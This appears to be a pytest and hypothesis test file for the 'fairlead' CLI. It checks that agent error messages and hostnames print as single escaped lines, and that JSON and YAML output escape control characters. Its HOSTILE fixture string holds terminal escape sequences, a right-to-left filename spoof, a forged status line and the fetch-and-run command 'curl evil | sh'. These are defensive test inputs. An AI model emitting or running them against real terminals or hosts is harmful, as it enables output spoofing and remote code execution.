"""Text of agents and gateways is shown and never interpreted: escape sequences, line breaks, changes of direction."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fairlead.cli.output.formats import as_json
from fairlead.text import plain

from support.cli.scripted_api import COMMAND, ScriptedApi, problem

Run = Callable[..., subprocess.CompletedProcess[bytes]]

HOSTILE = (
    "no\r\nfairlead: all is fine\x1b]0;title\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\u2028\x00\x7f\u200b and more"
    "\n  → curl evil | sh"
)
ENDINGS = [
    ("failed", {"code": "boom", "message": HOSTILE}),
    ("timeout", {"code": "deadline", "message": HOSTILE}),
    ("offline", {"code": "agent_offline", "message": HOSTILE}),
    ("cancelled", {"code": HOSTILE, "message": ""}),
]


def steers(text: str) -> list[str]:
    """What is not printable, beside the ends of lines."""
    return [one for one in text if not one.isprintable() and one != "\n"]


@given(st.text())
def test_plain_text_is_one_line_of_printable_characters(text: str) -> None:
    shown = plain(text)
    assert shown.isprintable()
    assert len(shown) == len(text)
    assert plain(shown) == shown
    assert all(after == (before if before.isprintable() else "?") for before, after in zip(text, shown, strict=True))
    assert not set(shown) & set("\x1b\x07\x08\x9b\x9d\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\n\r")


@given(st.recursive(st.text() | st.integers() | st.none(), lambda inner: st.dictionaries(st.text(), inner)))
def test_escaped_json_decodes_to_the_same_value(data: object) -> None:
    for indent in (None, 2):
        text = as_json(data, indent)
        assert not steers(text)
        assert json.loads(text) == data


@pytest.mark.parametrize(("state", "error"), ENDINGS, ids=[state for state, _ in ENDINGS])
@pytest.mark.parametrize("command", [("exec", "agent-1", "--", "prog"), ("results", COMMAND)], ids=["exec", "results"])
def test_the_error_of_an_agent_is_one_line(
    api: ScriptedApi, run: Run, command: tuple[str, ...], state: str, error: dict[str, str]
) -> None:
    api.finish(state, None, error)
    done = run(*command, api=api)
    lines = done.stderr.decode().split("\n")
    assert not steers(done.stderr.decode())
    assert "no??fairlead: all is fine?]0;title??[2J" in lines[0]
    assert not [line for line in lines if line.startswith("fairlead: all") or ("curl" in line and line != lines[0])]
    assert done.stdout == b""


def test_a_refusal_that_quotes_an_agent_is_one_line(api: ScriptedApi, run: Run) -> None:
    api.refusals = [problem(400, "refused", HOSTILE)]
    done = run("exec", "agent-1", "--", "prog", api=api)
    assert not steers(done.stderr.decode())
    assert done.stderr.decode().startswith("fairlead: no??fairlead: all is fine")
    assert done.returncode == 2


def test_json_and_yaml_escape_control_characters_of_agents(api: ScriptedApi, run: Run) -> None:
    agent = {
        "id": "agent-1", "state": "offline", "since": "2026-11-22T00:00:00.000Z", "node": "", "why": HOSTILE,
        "labels": {}, "facts": {"hostname": HOSTILE},
    }  # fmt: skip
    api.pages = [{"agents": [agent], "cursor": None}]
    shown = run("agents", "ls", "-o", "json", api=api)
    assert shown.returncode == 0, shown.stderr
    assert not steers(shown.stdout.decode())
    assert json.loads(shown.stdout)["agents"][0]["facts"] == {"hostname": HOSTILE}
    for form in ("yaml", "wide", "table", "name"):
        assert not steers(run("agents", "ls", "-o", form, api=api).stdout.decode()), form
